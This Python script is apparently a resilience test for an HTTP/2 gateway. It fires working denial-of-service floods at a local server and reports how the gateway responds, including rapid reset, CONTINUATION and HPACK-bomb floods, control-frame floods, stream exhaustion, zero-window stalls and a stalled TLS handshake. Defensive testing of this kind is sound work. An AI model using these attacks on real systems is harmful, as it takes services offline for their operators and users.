#!/usr/bin/env python3
"""Attacks a gateway over HTTP/2 in one of many ways, and prints what it did about it, as JSON.

    attack.py PORT KEY NAME [COUNT]

`goaway` is the code of the GOAWAY it got, `resets` how many streams ended with which code, `closed` whether the
connection has ended, `bodies` what the bodies of answers were, `seconds` how long it took to the GOAWAY.
"""

import json
import socket
import struct
import sys
import time

from frames import (
    CONTINUATION, Connection, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, field, frame, integer, request)

BATCH = 200


def send_many(connection, pieces):
    """Sends until all is sent or the gateway has closed; in batches, so that its end is seen."""
    batch = []
    for piece in pieces:
        batch.append(piece)
        if len(batch) == BATCH:
            if not connection.send(b"".join(batch)):
                return
            batch = []
    connection.send(b"".join(batch))


def opened(stream, key, flags=END_HEADERS | END_STREAM, path="/attack"):
    return frame(HEADERS, flags, stream, request(key, path=path))


def rapid_reset(connection, key, count):
    send_many(connection, (opened(2 * index + 1, key) + frame(RST_STREAM, 0, 2 * index + 1, struct.pack(">I", 8))
                           for index in range(count)))


def made_you_reset(connection, key, count):
    """Frames that make the gateway itself reset each stream: no increment, and DATA behind the end."""
    nothing = struct.pack(">I", 0)
    send_many(connection, (opened(2 * index + 1, key) + frame(WINDOW_UPDATE, 0, 2 * index + 1, nothing)
                           for index in range(count)))


def malformed(connection, key, count):
    send_many(connection, (frame(HEADERS, END_HEADERS | END_STREAM, 2 * index + 1, field("Upper", "1"))
                           for index in range(count)))


def continuations(connection, key, count):
    connection.send(frame(HEADERS, END_STREAM, 1, request(key)))
    send_many(connection, (frame(CONTINUATION, 0, 1, field("x", "y")) for _ in range(count)))


def empty_continuations(connection, key, count):
    connection.send(frame(HEADERS, END_STREAM, 1, request(key)))
    send_many(connection, (frame(CONTINUATION, 0, 1) for _ in range(count)))


def open_block(connection, key, count):
    connection.send(frame(HEADERS, END_STREAM, 1, request(key)))


def open_frame(connection, key, count):
    connection.send(opened(1, key)[:-4])


def hpack_bomb(connection, key, count):
    """A field of 3.9 kB enters the table, and is then named again and again by one byte."""
    bomb = request(key) + field("bomb", "b" * 3_900, indexed=True) + integer(62, 7, 0x80) * count
    pieces = [bomb[start:start + 16_000] for start in range(0, len(bomb), 16_000)]
    connection.send(frame(HEADERS, END_STREAM | (END_HEADERS if len(pieces) == 1 else 0), 1, pieces[0]))
    for number, piece in enumerate(pieces[1:], 2):
        connection.send(frame(CONTINUATION, END_HEADERS if number == len(pieces) else 0, 1, piece))


def settings(connection, key, count):
    send_many(connection, (frame(SETTINGS) for _ in range(count)))


def pings(connection, key, count):
    send_many(connection, (frame(PING, payload=b"12345678") for _ in range(count)))


def priorities(connection, key, count):
    send_many(connection, (frame(PRIORITY, 0, 2 * index + 1, struct.pack(">IB", 0, 16)) for index in range(count)))


def empty_data(connection, key, count):
    connection.send(opened(1, key, END_HEADERS))
    send_many(connection, (frame(DATA, 0, 1) for _ in range(count)))


def window_updates(connection, key, count):
    send_many(connection, (frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) for _ in range(count)))


def unknown_frames(connection, key, count):
    send_many(connection, (frame(0xEE, 0, 0, b"nothing") for _ in range(count)))


def streams(connection, key, count):
    """More streams at once than the gateway allows, on an upstream that doesn't answer."""
    send_many(connection, (opened(2 * index + 1, key, path="/never") for index in range(count)))


def window_of_nothing(connection, key, count):
    """Asks for answers and has no room for them; `main` has said so in the settings."""
    send_many(connection, (opened(2 * index + 1, key, path="/large") for index in range(count)))


def never_read(connection, key, count):
    connection.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 1 - 65_535)))
    send_many(connection, (opened(2 * index + 1, key, path="/large") for index in range(count)))


def tiny_windows(connection, key, count):
    """Takes an answer byte by byte."""
    connection.send(opened(1, key, path="/large"))
    send_many(connection, (frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)) for _ in range(count)))


def slow_handshake(port):
    """Begins a TLS handshake and doesn't go on; gives the seconds until the gateway ends it."""
    begin = time.monotonic()
    with socket.create_connection(("127.0.0.1", port)) as plain:
        plain.sendall(bytes([22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3]))
        plain.settimeout(60)
        try:
            while plain.recv(1_000):
                pass
        except OSError:
            pass
    return {"closed": True, "seconds": time.monotonic() - begin}


ATTACKS = {
    "rapid-reset": rapid_reset, "made-you-reset": made_you_reset, "malformed": malformed,
    "continuations": continuations, "empty-continuations": empty_continuations, "open-block": open_block,
    "open-frame": open_frame, "hpack-bomb": hpack_bomb, "settings": settings, "pings": pings,
    "priorities": priorities, "empty-data": empty_data, "window-updates": window_updates,
    "unknown-frames": unknown_frames, "streams": streams, "no-window": window_of_nothing, "never-read": never_read,
    "tiny-windows": tiny_windows,
}
# How long each waits for what the gateway does, in seconds.
WAITS = {"open-block": 15, "open-frame": 15, "no-window": 15, "streams": 2}
NO_WINDOW = struct.pack(">HI", 4, 0)


def main():
    port, key, name = int(sys.argv[1]), sys.argv[2], sys.argv[3]
    count = int(sys.argv[4]) if len(sys.argv) > 4 else 2_000
    if name == "slow-handshake":
        return print(json.dumps(slow_handshake(port)))
    reads = name != "never-read"
    connection = Connection(
        port, NO_WINDOW if name in ("no-window", "tiny-windows") else b"", None if reads else 4_096)
    begin = time.monotonic()
    ATTACKS[name](connection, key, count)
    result = {"goaway": None, "resets": {}, "closed": False, "bodies": 0, "seconds": None}
    if not reads:
        time.sleep(WAITS.get(name, 10))
    for kind, flags, stream, payload in connection.frames(WAITS.get(name, 10)):
        if kind == GOAWAY:
            result["goaway"] = struct.unpack(">I", payload[4:8])[0]
            result["seconds"] = time.monotonic() - begin
        elif kind == RST_STREAM:
            code = str(struct.unpack(">I", payload)[0])
            result["resets"][code] = result["resets"].get(code, 0) + 1
        elif kind == DATA:
            result["bodies"] += len(payload)
    result["closed"] = connection.is_closed
    print(json.dumps(result))


main()
